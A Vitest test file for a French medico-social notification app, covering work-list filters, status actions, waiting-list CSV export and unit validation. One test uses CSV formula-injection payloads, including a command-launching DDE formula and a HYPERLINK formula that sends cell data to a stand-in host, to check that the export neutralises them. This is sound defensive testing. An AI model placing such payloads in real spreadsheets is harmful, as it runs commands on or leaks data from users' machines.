import crypto from 'node:crypto';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AppError } from '@shared/errors/app-error';
import { openDatabase, type Db } from '../db/database';
import { Journal } from '../journal/journal';
import { makeTempDir } from '../testing/temp-dir';
import { performAction, previewAction, type ActionRequest } from './notification-actions';
import { readNotificationDetail } from './notification-detail';
import { seedWorklist, SEED_EGS } from './testing/worklist-seed';
import { createUnit, listGeographicEntities, setLocalActivation, updateUnit, listUnits } from './units-and-entities';
import { listWaitingLists, waitingListsCsv, WAITING_CSV_HEADERS } from './waiting-lists';
import { parseCsvDocument } from '../export/csv';
import { listWorklist, type WorklistFilter } from './worklist-queries';
import { DEFAULT_SDO_CONTEXT } from '../fhir';

const TODAY = '2026-07-01';
const now = () => new Date(`${TODAY}T10:00:00.000Z`);
const ALL: WorklistFilter = { showTerminated: true, sort: 'recu', direction: 'asc' };

let tmp: ReturnType<typeof makeTempDir>;
let db: Db;
let journal: Journal;

beforeEach(() => {
  tmp = makeTempDir();
  db = openDatabase({ file: path.join(tmp.dir, 'w.db'), key: crypto.randomBytes(32) });
  journal = new Journal(db, now);
});
afterEach(() => {
  db.close();
  tmp.cleanup();
});

const deps = () => ({ db, journal, now, today: () => TODAY, sdo: () => DEFAULT_SDO_CONTEXT });
const count = (sql: string, ...p: unknown[]) =>
  db
    .prepare(sql)
    .pluck()
    .get(...p) as number;
const unitId = (idRor: string) => db.prepare('SELECT id FROM ror_unit WHERE id_ror = ?').pluck().get(idRor) as number;

describe('work list', () => {
  it('masks finished notifications by default and shows them on demand', () => {
    seedWorklist(db, { count: 40, today: TODAY });
    const all = listWorklist(db, ALL, TODAY);
    const visible = listWorklist(db, { ...ALL, showTerminated: false }, TODAY);
    expect(all.rows).toHaveLength(40);
    expect(visible.rows.every((r) => !r.terminated || r.unread || r.aTraiter)).toBe(true);
    expect(visible.rows.length + visible.hiddenTerminated).toBe(40);
    expect(all.rows.filter((r) => r.esmsStatus === '49').every((r) => r.terminated)).toBe(true);
    expect(visible.hiddenTerminated).toBeGreaterThanOrEqual(4);
  });

  it('never masks a notification the referent has not read: expired unread stays, à traiter, until read', () => {
    seedWorklist(db, { count: 10, today: TODAY });
    const unread = listWorklist(db, ALL, TODAY).rows.find((r) => r.esmsStatus === '39');
    if (!unread) throw new Error('seed');
    // It arrives already expired (the MDPH notified late), with no other mark: finished for the rules, never seen.
    db.prepare('UPDATE notification SET a_traiter = 0, a_traiter_reason = NULL WHERE id = ?').run(unread.id);
    db.prepare(
      'UPDATE decision SET validity_end = ? WHERE id = (SELECT decision_id FROM notification WHERE id = ?)',
    ).run('2026-06-01', unread.id);
    const listed = () => listWorklist(db, { ...ALL, showTerminated: false }, TODAY);
    const row = listed().rows.find((r) => r.id === unread.id);
    expect(row).toMatchObject({ terminated: true, unread: true, aTraiter: true, validity: 'expiree' });
    expect(row?.aTraiterReason).toContain('avant lecture');
    expect(listWorklist(db, { ...ALL, showTerminated: false, aTraiter: true }, TODAY).rows.map((r) => r.id)).toContain(
      unread.id,
    );
    // Once read, it is finished like any other expired notification: masked.
    db.prepare("UPDATE notification SET esms_status = '40' WHERE id = ?").run(unread.id);
    expect(listed().rows.some((r) => r.id === unread.id)).toBe(false);
  });

  it('filters by EG, status, category, à traiter, validity, and searches name, MDPH id and idDecision', () => {
    seedWorklist(db, { count: 30, today: TODAY });
    const all = listWorklist(db, ALL, TODAY).rows;
    const first = all[0];
    if (!first) throw new Error('seed');
    expect(
      listWorklist(db, { ...ALL, finessEg: '010000012' }, TODAY).rows.every((r) => r.finessEg === '010000012'),
    ).toBe(true);
    expect(listWorklist(db, { ...ALL, esmsStatus: '42' }, TODAY).rows.every((r) => r.esmsStatus === '42')).toBe(true);
    expect(listWorklist(db, { ...ALL, category: '11.1' }, TODAY).rows.every((r) => r.category === '11.1')).toBe(true);
    const aTraiter = listWorklist(db, { ...ALL, aTraiter: true }, TODAY).rows;
    expect(aTraiter.length).toBe(all.filter((r) => r.aTraiter || r.unread).length);
    expect(aTraiter.some((r) => r.unread && !r.aTraiter)).toBe(true);
    expect(aTraiter.length).toBeGreaterThan(0);
    const expired = listWorklist(db, { ...ALL, validity: 'expiree' }, TODAY).rows;
    expect(expired.every((r) => r.validityEnd !== null && r.validityEnd < TODAY)).toBe(true);
    expect(listWorklist(db, { ...ALL, search: first.idDecision }, TODAY).rows.map((r) => r.id)).toEqual([first.id]);
    expect(listWorklist(db, { ...ALL, search: first.mdphIndividualId }, TODAY).rows.map((r) => r.id)).toContain(
      first.id,
    );
    const byName = listWorklist(db, { ...ALL, search: first.givenNames.toLowerCase() }, TODAY).rows;
    expect(byName.map((r) => r.id)).toContain(first.id);
    const sorted = listWorklist(db, { ...ALL, sort: 'validite', direction: 'asc' }, TODAY).rows.map(
      (r) => r.validityEnd ?? '',
    );
    expect(sorted).toEqual([...sorted].sort());
  });

  it('builds 10,000 rows (figure printed for the report)', () => {
    seedWorklist(db, { count: 10_000, today: TODAY });
    const result = listWorklist(db, { ...ALL, showTerminated: false, sort: 'nom' }, TODAY);
    expect(result.totalMatching).toBe(10_000);
    console.info(`work list of 10,000 notifications built in ${result.elapsedMs} ms`);
  });

  it('hides the notifications of an EG switched off locally', () => {
    seedWorklist(db, { count: 9, today: TODAY });
    setLocalActivation(db, '010000013', false, TODAY);
    expect(listWorklist(db, ALL, TODAY).rows.some((r) => r.finessEg === '010000013')).toBe(false);
    const eg = listGeographicEntities(db, TODAY).find((g) => g.finessEg === '010000013');
    expect(eg?.localActivated).toBe(false);
    expect(eg?.nextSteps.join(' ')).toContain('Activez');
    expect(eg?.counts.notifications).toBe(3);
  });
});

describe('actions', () => {
  function firstWith(finessEg: string, esmsStatus: string): number {
    return db
      .prepare('SELECT id FROM notification WHERE finess_eg = ? AND esms_status = ? ORDER BY id LIMIT 1')
      .pluck()
      .get(finessEg, esmsStatus) as number;
  }

  it('places a notification on a unit waiting list in one transaction: unit line, status, journal, valid Task queued', () => {
    seedWorklist(db, { count: 30, today: TODAY });
    const id = firstWith('010000011', '41');
    const unit = unitId('ROR-UNIT-ESAT-1');
    const request: ActionRequest = {
      notificationId: id,
      action: 'demande-admission',
      date: '2026-06-28',
      unitId: unit,
    };
    const preview = previewAction(db, request);
    // In the referent's words; the codes apart, for the "détail technique".
    expect(preview.lines.map((l) => l.text).join('\n')).toContain(
      "Statut ESMS « Liste d'attente. En cours d'analyse, demande d'admission reçue dans l'ESMS »",
    );
    expect(preview.lines.map((l) => l.text).join('\n')).not.toMatch(/\b(42|182)\b/);
    expect(preview.lines.map((l) => l.technical).join('\n')).toMatch(/statut ESMS 42.*statut 182/);
    expect(count('SELECT count(*) FROM outbox')).toBe(0);

    const result = performAction(deps(), request);
    expect(result.outboxIds).toHaveLength(1);
    const outbox = db.prepare('SELECT payload_json, state, finess_eg FROM outbox').get() as {
      payload_json: string;
      state: string;
      finess_eg: string;
    };
    expect(outbox.state).toBe('pending');
    expect(outbox.finess_eg).toBe('010000011');
    const task = JSON.parse(outbox.payload_json) as {
      resourceType: string;
      input: { valueString?: string; valueCoding?: { code: string } }[];
    };
    expect(task.resourceType).toBe('Task');
    const values = JSON.stringify(task.input);
    for (const v of ['ROR-UNIT-ESAT-1', 'Atelier blanchisserie', '"182"', '"42"', '"43"', '"47"'])
      expect(values).toContain(v);
    expect(db.prepare('SELECT esms_status, esms_status_date FROM notification WHERE id = ?').get(id)).toEqual({
      esms_status: '42',
      esms_status_date: '2026-06-28',
    });
    expect(db.prepare('SELECT status, request_date FROM unit_line WHERE notification_id = ?').get(id)).toEqual({
      status: '182',
      request_date: '2026-06-28',
    });
    expect(
      count("SELECT count(*) FROM journal WHERE action LIKE 'Statut enregistré%' AND record_id = ?", String(id)),
    ).toBe(1);

    const detail = readNotificationDetail(db, id, TODAY);
    // The decision shown is read from the stored CDA of this notification's decision.
    expect(detail.decision).not.toBeNull();
    expect(detail.row.idDecision.startsWith(`${detail.decision?.decision.idDecision}-`)).toBe(true);
    expect(detail.timeline[0]).toMatchObject({ origin: 'local', statutUnite: '182', transmission: 'en attente' });
    expect(detail.actions.map((a) => a.id)).toContain('declarer-admissible');
  });

  it('sends two Tasks when a proposal moves from one unit to another', () => {
    seedWorklist(db, { count: 30, today: TODAY });
    const id = firstWith('010000011', '71');
    const from = db.prepare('SELECT ror_unit_id FROM unit_line WHERE notification_id = ?').pluck().get(id) as number;
    const to = [unitId('ROR-UNIT-ESAT-1'), unitId('ROR-UNIT-ESAT-2')].find((u) => u !== from) ?? 0;
    const result = performAction(deps(), {
      notificationId: id,
      action: 'modifier-proposition',
      date: '2026-06-30',
      unitId: from,
      targetUnitId: to,
      motif: '100',
    });
    expect(result.outboxIds).toHaveLength(2);
    const lines = db
      .prepare('SELECT ror_unit_id, status FROM unit_line WHERE notification_id = ? ORDER BY ror_unit_id')
      .all(id);
    expect(lines).toEqual(
      [
        { ror_unit_id: from, status: '180' },
        { ror_unit_id: to, status: '184' },
      ].sort((a, b) => a.ror_unit_id - b.ror_unit_id),
    );
  });

  it('refuses an action the state does not allow and writes nothing', () => {
    seedWorklist(db, { count: 30, today: TODAY });
    const id = firstWith('010000011', '39');
    const attempt = () =>
      performAction(deps(), {
        notificationId: id,
        action: 'entree-usager',
        date: TODAY,
        unitId: unitId('ROR-UNIT-ESAT-1'),
      });
    expect(attempt).toThrow(AppError);
    expect(count('SELECT count(*) FROM outbox') + count('SELECT count(*) FROM status_event')).toBe(0);
  });

  it('never offers the trial period for an ESRP, and offers it for an ESAT', () => {
    seedWorklist(db, { count: 30, today: TODAY });
    const esrp = firstWith('010000012', '71');
    expect(readNotificationDetail(db, esrp, TODAY).actions.map((a) => a.id)).not.toContain('debut-periode-essai');
    const esat = firstWith('010000011', '71');
    expect(readNotificationDetail(db, esat, TODAY).actions.map((a) => a.id)).toContain('debut-periode-essai');
  });
});

describe('waiting lists, units', () => {
  it('lists 182/183/184 per unit by request date, and exports them as French CSV', () => {
    seedWorklist(db, { count: 60, today: TODAY });
    const units = listWaitingLists(db, {}, TODAY);
    const withEntries = units.filter((u) => u.entries.length > 0);
    expect(withEntries.length).toBeGreaterThan(1);
    for (const u of withEntries) {
      const dates = u.entries.map((e) => e.requestDate);
      expect(dates).toEqual([...dates].sort());
      expect(u.entries.every((e) => ['182', '183', '184'].includes(e.status))).toBe(true);
    }
    const csv = waitingListsCsv(units);
    expect(csv.content.startsWith('\uFEFF')).toBe(true);
    const lines = csv.content.slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toBe(WAITING_CSV_HEADERS.join(';'));
    expect(lines).toHaveLength(csv.rows + 1);
    expect(csv.rows).toBe(withEntries.reduce((s, u) => s + u.entries.length, 0));
    const first = withEntries[0]?.entries[0];
    expect(lines[1]?.split(';')[3]).toBe(first?.familyName);
    expect(lines[1]).toMatch(/;\d{2}\/\d{2}\/\d{4};/);
  });

  it('exports no cell a spreadsheet would run: formula-leading names, identifiers and free text are neutralised', () => {
    seedWorklist(db, { count: 60, today: TODAY });
    const hostile = [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
      '+33 1 00 00 00 00',
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ];
    const units = listWaitingLists(db, {}, TODAY)
      .filter((u) => u.entries.length > 0)
      .map((u, i) => ({
        ...u,
        egName: hostile[i % hostile.length]!,
        unitName: hostile[(i + 1) % hostile.length]!,
        idRor: hostile[(i + 2) % hostile.length]!,
        entries: u.entries.map((e, j) => ({
          ...e,
          familyName: hostile[j % hostile.length]!,
          givenNames: hostile[(j + 1) % hostile.length]!,
          mdphIndividualId: hostile[(j + 2) % hostile.length]!,
          idDecision: hostile[(j + 3) % hostile.length]!,
          priority: hostile[(j + 4) % hostile.length]!,
          categoryLabel: hostile[(j + 5) % hostile.length]!,
        })),
      }));
    const csv = waitingListsCsv(units);
    const rows = parseCsvDocument(csv.content);
    expect(rows).toHaveLength(csv.rows + 1);
    const cells = rows.slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // Nothing is lost: each hostile value is there, behind its apostrophe.
    for (const value of hostile) expect(cells).toContain(`'${value}`);
    expect(rows[1]).toHaveLength(WAITING_CSV_HEADERS.length);
  });

  it('validates a unit edit against J34/J30/J264 and marks it locally edited', () => {
    seedWorklist(db, { count: 1, today: TODAY });
    const id = unitId('ROR-UNIT-ESAT-1');
    const base = {
      id,
      name: 'Atelier renommé',
      categorieOrganisation: '43',
      temporaliteAccueil: '02',
      accueilSequentiel: true,
      modePriseCharge: '47',
    };
    expect(() => updateUnit(db, { ...base, modePriseCharge: '11' }, now().toISOString())).toThrow(/JDV_J19/);
    expect(() => updateUnit(db, { ...base, categorieOrganisation: '9999' }, now().toISOString())).toThrow(AppError);
    expect(() => updateUnit(db, { ...base, temporaliteAccueil: '07' }, now().toISOString())).toThrow(AppError);
    const unit = updateUnit(db, base, now().toISOString());
    expect(unit).toMatchObject({ name: 'Atelier renommé', locallyEdited: true, accueilSequentiel: true, missing: [] });
    expect(listUnits(db).find((u) => u.id === id)?.modePriseChargeLabel).toBe('Accueil de jour');
    expect(SEED_EGS).toHaveLength(3);
  });

  it('adds a local unit with its ROR identifier, validated like an edit, once per identifier and known EG', () => {
    seedWorklist(db, { count: 1, today: TODAY });
    const eg = SEED_EGS[0].finessEg;
    const creation = {
      finessEg: eg,
      idRor: 'ROR-UNIT-LOCALE-1',
      name: 'Atelier repassage',
      categorieOrganisation: '43',
      temporaliteAccueil: null,
      accueilSequentiel: false,
      modePriseCharge: '47',
    };
    const at = now().toISOString();
    expect(() => createUnit(db, { ...creation, modePriseCharge: '11' }, at)).toThrow(/JDV_J19/);
    expect(() => createUnit(db, { ...creation, finessEg: '999999999' }, at)).toThrow(/inconnu/);
    expect(() => createUnit(db, { ...creation, idRor: 'ROR-UNIT-ESAT-1' }, at)).toThrow(/déjà/);
    const unit = createUnit(db, creation, at);
    expect(unit).toMatchObject({ origin: 'local', locallyEdited: true, finessEg: eg, missing: [] });
    expect(listUnits(db, eg).map((u) => u.idRor)).toContain('ROR-UNIT-LOCALE-1');
    expect(() => createUnit(db, creation, at)).toThrow(/déjà/);
  });
});
